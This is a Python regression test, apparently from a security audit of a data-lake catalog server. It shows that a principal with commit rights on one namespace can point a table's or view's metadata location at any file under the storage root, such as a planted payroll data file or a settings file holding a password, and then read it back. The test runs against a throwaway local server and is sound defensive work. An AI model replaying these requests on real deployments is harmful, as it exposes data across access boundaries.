"""Whoever may commit one key reads every file below the catalog's storage root through the server, data files among them.

A commit through the feed (or a put through the Nessie API) may name any file of the warehouse as a table's metadata. Loading that
table answers with the file's bytes as they are: nobody looks whether they are table metadata. docs/access.md concedes that other
tables' *metadata files* can be named, whose names are random; it does not say that data files, whose bytes the server never
serves to anybody else, come along. Registering the same file is refused, for want of `table.read` over the catalog.

Run from the project's root: .venv/bin/python tests/findings/s1_any_file_below_the_storage_root_is_served.py  (exits 1 while the defect is there, 0 when it is closed.)
"""

import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import time

import httpx

HEADWATER = os.path.join(os.getcwd(), ".venv", "bin", "headwater")
SCHEMA = {"type": "struct", "schema-id": 0, "fields": [{"id": 1, "name": "a", "required": False, "type": "long"}]}


class Lake:
    """`headwater serve` on a free loopback port, with a store of its own: realm `default`, catalog `lake` on local files."""

    def __init__(self, **settings):
        self.folder = tempfile.mkdtemp(prefix="headwater-finding-")
        self.store, self.root_folder = f"sqlite:///{self.folder}/lake.db", f"{self.folder}/lake"
        os.makedirs(self.root_folder)
        self.environ = {**os.environ, **{f"HEADWATER_{name.upper()}": value for name, value in settings.items()}}
        self.command("store", "create")
        made = json.loads(self.command("realm", "create", "default", "--init", "--json"))
        self.command("catalog", "create", "lake", "--storage-root", f"file://{self.root_folder}")
        with socket.socket() as free:
            free.bind(("127.0.0.1", 0))
            self.port = free.getsockname()[1]
        self.url = f"http://127.0.0.1:{self.port}"
        self.http = httpx.Client(base_url=self.url, timeout=100)
        self.start()
        self.root = self.sign_in(made)

    def start(self):
        self.log = open(f"{self.folder}/serve.log", "ab")
        arguments = [HEADWATER, "--store", self.store, "serve", "--port", str(self.port)]
        self.process = subprocess.Popen(arguments, stdout=self.log, stderr=self.log, env=self.environ)
        for _ in range(600):
            try:
                if self.http.get("/readyz").status_code == 200:
                    return
            except httpx.HTTPError:
                pass
            if self.process.poll() is not None:
                raise SystemExit(f"the server did not start: {open(self.log.name).read()[-500:]}")
            time.sleep(0.1)

    def stop(self):
        self.process.terminate()
        try:
            self.process.wait(20)
        except subprocess.TimeoutExpired:
            self.process.kill()

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.stop()
        shutil.rmtree(self.folder, ignore_errors=True)

    def command(self, *arguments):
        run = [HEADWATER, "--store", self.store, *arguments]
        return subprocess.run(run, check=True, capture_output=True, text=True, env=self.environ).stdout

    def sign_in(self, made, realm="default"):
        form = {"grant_type": "client_credentials", "client_id": made["client_id"], "client_secret": made["client_secret"]}
        answer = self.http.post(f"/manage/v1/{realm}/oauth/tokens", data=form)
        return {"authorization": f"Bearer {answer.raise_for_status().json()['access_token']}"}

    def manage(self, method, path, body=None, who=None, realm="default", **more):
        answer = self.http.request(method, f"/manage/v1/{realm}{path}", json=body, headers=who or self.root, **more)
        return answer if who is not None else answer.raise_for_status()

    def principal(self, name, *grants, catalog="lake"):
        """With a role that is granted (right, path or None) in the catalog; its Authorization header."""
        made = self.manage("POST", "/principals", {"name": name}).json()["credentials"]
        self.manage("POST", "/principal-roles", {"name": f"{name}-role"})
        self.manage("PUT", f"/principal-roles/{name}-role/members/{name}")
        self.manage("POST", f"/catalogs/{catalog}/roles", {"name": f"{name}-role"})
        self.manage("PUT", f"/catalogs/{catalog}/roles/{name}-role/members/{name}-role")
        for right, path in grants:
            where = {"path": path} if path else None
            self.manage("PUT", f"/catalogs/{catalog}/roles/{name}-role/grants/{right}", params=where)
        return self.sign_in(made)

    def iceberg(self, method, path, body=None, who=None, catalog="lake"):
        return self.http.request(method, f"/iceberg/v1/{catalog}{path}", json=body, headers=who or self.root)

    def namespace(self, *names):
        for name in names:
            self.iceberg("POST", "/namespaces", {"namespace": [name]}).raise_for_status()

    def table(self, namespace, name, **more):
        body = {"name": name, "schema": SCHEMA, **more}
        return self.iceberg("POST", f"/namespaces/{namespace}/tables", body).raise_for_status().json()


def end(faults):
    for fault in faults:
        print("DEFECT:", fault)
    print("closed" if not faults else f"{len(faults)} found")
    sys.exit(1 if faults else 0)


with Lake() as lake:
    lake.namespace("shop", "payroll")
    os.makedirs(f"{lake.root_folder}/payroll/salaries/data")
    secret = b"PAR1 ann earns 4711 PAR1"
    with open(f"{lake.root_folder}/payroll/salaries/data/part-0.parquet", "wb") as file:
        file.write(secret)
    location = f"file://{lake.root_folder}/payroll/salaries/data/part-0.parquet"
    seller = lake.principal("seller", ("commit.write", "shop"))
    faults = []

    registered = lake.iceberg("POST", "/namespaces/shop/register", {"name": "x", "metadata-location": location}, seller)
    print("register:", registered.status_code)
    put = {"op": "put", "key": ["shop", "x"], "type": "ICEBERG_TABLE", "content": {"metadata_location": location}}
    body = {"catalog": "lake", "operations": [put]}
    print("commit:", lake.http.post("/feed/v1/default/commit", headers=seller, json=body).status_code)
    loaded = lake.iceberg("GET", "/namespaces/shop/tables/x", who=seller)
    print("load:", loaded.status_code, loaded.content[:160])
    if secret in loaded.content:
        faults.append("a data file of payroll is read by somebody who has rights over shop alone")

    with open(f"{lake.root_folder}/settings.json", "w") as file:  # JSON, but no table's
        file.write('{"password": "hunter2"}')
    put = {**put, "key": ["shop", "y"], "content": {"metadata_location": f"file://{lake.root_folder}/settings.json"}}
    body = {"catalog": "lake", "operations": [put]}
    lake.http.post("/feed/v1/default/commit", headers=seller, json=body)
    loaded = lake.iceberg("GET", "/namespaces/shop/tables/y", who=seller)
    print("load:", loaded.status_code, loaded.content[:160])
    if b"hunter2" in loaded.content:
        faults.append("so is any other file that is JSON")

    content = {"type": "ICEBERG_VIEW", "metadataLocation": location, "versionId": 1, "schemaId": 0}
    operations = [{"type": "PUT", "key": {"elements": ["shop", "v"]}, "content": content}]
    body = {"commitMeta": {"message": "m"}, "operations": operations}
    print("nessie put:", lake.http.post("/api/v2/trees/main/history/commit", headers=seller, json=body).status_code)
    loaded = lake.iceberg("GET", "/namespaces/shop/views/v", who=seller)
    print("load view:", loaded.status_code, loaded.content[:160])
    if secret in loaded.content:
        faults.append("and by way of a view too")
end(faults)
